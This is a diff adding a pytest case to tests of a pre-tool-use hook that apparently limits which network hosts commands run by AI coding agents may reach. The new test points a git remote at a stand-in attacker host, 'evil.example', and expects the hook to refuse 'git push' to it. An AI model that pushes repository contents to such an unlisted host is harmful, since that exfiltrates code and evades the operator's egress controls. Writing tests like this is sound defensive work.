@@ -6,6 +6,7 @@ does not list the host it names (refused). Look-alikes that do not reach out sta
 """
 
 import re
+import subprocess
 
 import pytest
 
@@ -205,3 +206,18 @@ def test_a_codex_argv_list_keeps_its_shell_line_whole(bash_event, run_hook, allo
     code, out, _ = run_hook("codex", "pre-tool-use", data, allow_env)
     assert code == 2
     assert "1 host not on allow_hosts" in out["hookSpecificOutput"]["permissionDecisionReason"]
+
+
+@pytest.mark.parametrize(
+    "remote, refused",
+    [("https://evil.example/o/r.git", True), ("https://github.com/o/r.git", False)],
+)
+def test_git_push_is_host_checked_against_the_remotes_it_goes_to(
+    remote, refused, bash_event, run_hook, allow_env, tmp_path
+):
+    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
+    subprocess.run(["git", "-C", str(tmp_path), "remote", "add", "origin", remote], check=True)
+    code, _, _ = run_hook(
+        "claude-code", "pre-tool-use", bash_event("git push origin main"), allow_env
+    )
+    assert code == (2 if refused else 0)
